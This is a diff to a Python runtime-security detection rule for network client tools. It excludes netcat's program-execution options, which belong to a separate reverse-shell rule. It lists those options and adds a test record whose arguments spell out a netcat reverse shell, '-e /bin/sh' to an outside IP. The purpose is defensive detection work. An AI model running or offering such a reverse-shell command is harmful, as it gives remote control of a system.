@@ -17,6 +17,8 @@ NETCATS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "so
 CLIENT_TOOLS = DNS_TOOLS | NETCATS | {"telnet"}
 #: netcat and socat options that make them listen or scan: runtime.network_tool_in_container's in a container.
 LISTEN_OR_SCAN = ("tcp-listen", "tcp4-listen", "tcp6-listen", "udp-listen", "openssl-listen")
+#: netcat options that run a program on the connection: a reverse or bind shell, runtime.reverse_shell's.
+NETCAT_EXEC = frozenset({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})
 
 
 def listens_or_scans(args: list[str]) -> bool:
@@ -35,6 +37,8 @@ def in_container(event: Event) -> bool:
 def client_use(event: Event) -> bool:
     program = program_name(event)
     if program not in CLIENT_TOOLS:
+        return False
+    if program in NETCATS and not NETCAT_EXEC.isdisjoint(event.actor.args):
         return False
     return not (in_container(event) and program in NETCATS and listens_or_scans(event.actor.args))
 
@@ -83,6 +87,9 @@ DETECTION = EventDetection(
         ),
         Example(name="netcat listening in a container (runtime.network_tool_in_container's)", source="tetragon",
                 fires=False, record=tetragon_record(binary="/usr/bin/nc", arguments="-lvnp 4444")),
+        Example(name="netcat running a shell on its connection (runtime.reverse_shell's)", source="tetragon",
+                fires=False,
+                record=tetragon_record(binary="/bin/nc.traditional", arguments="-e /bin/sh 45.9.148.99 4444")),
         Example(name="curl checking a service", source="tetragon", fires=False,
                 record=tetragon_record(binary="/usr/bin/curl", arguments="-fsS http://api:8080/healthz")),
     ],
